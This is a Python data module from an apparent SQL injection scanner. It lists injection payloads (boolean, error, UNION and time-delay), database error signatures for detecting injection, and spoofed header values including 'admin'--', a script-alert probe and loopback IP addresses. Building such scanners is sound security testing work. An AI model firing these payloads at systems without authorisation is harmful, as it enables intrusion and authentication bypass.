# sqliradar/scanners/payloads.py - SQL injection payloads and detection signatures

from typing import List, Tuple

from ..models import InjectionFamily

# (payload, family) pairs fired at every parameter
sqli_payloads: List[Tuple[str, InjectionFamily]] = [
    ("' OR '1'='1", InjectionFamily.BOOLEAN_BASED),
    ("' OR '1'='2", InjectionFamily.BOOLEAN_BASED),
    ("admin'--", InjectionFamily.BOOLEAN_BASED),
    ("'", InjectionFamily.ERROR_BASED),
    ("''", InjectionFamily.ERROR_BASED),
    ("' UNION SELECT NULL--", InjectionFamily.UNION_BASED),
    # SQL Server style delay
    ("'; WAITFOR DELAY '00:00:05'--", InjectionFamily.TIME_BASED),
]

# Case-folded substrings emitted by common database engines
sqli_error_signatures: Tuple[str, ...] = (
    "you have an error in your sql syntax",
    "sql syntax",
    "warning: mysql",
    "mysql server version",
    "mysql",
    "unclosed quotation",
    "pdoexception",
    "psql:",
    "postgresql",
    "unterminated quoted string",
    "sqlite error",
    "sqlite3::",
    "ora-",
    "odbc sql server driver",
    "odbc",
    "sqlstate",
    "syntax error",
)

# Page words that tend to appear when an authentication or filter check is bypassed
boolean_keywords: Tuple[str, ...] = ("welcome", "success", "admin")

union_error_marker = "error"

default_parameters: Tuple[str, ...] = ("id", "product", "category")

# Request headers commonly trusted by applications, proxies and caches
header_names: Tuple[str, ...] = (
    "X-Forwarded-For",
    "User-Agent",
    "Referer",
    "X-Real-IP",
    "X-Originating-IP",
    "Host",
)

header_payloads: Tuple[str, ...] = (
    "127.0.0.1",
    "localhost",
    "admin'--",
    "evil.com",
    "<script>alert(1)</script>",
)

# Header name fragments of client IP headers and the values that spoof them
ip_header_markers: Tuple[str, ...] = ("Forwarded", "Real-IP", "Client-IP")
loopback_values: Tuple[str, ...] = ("127.0.0.1", "localhost")

default_ports: Tuple[int, ...] = (21, 22, 80, 443, 8080)
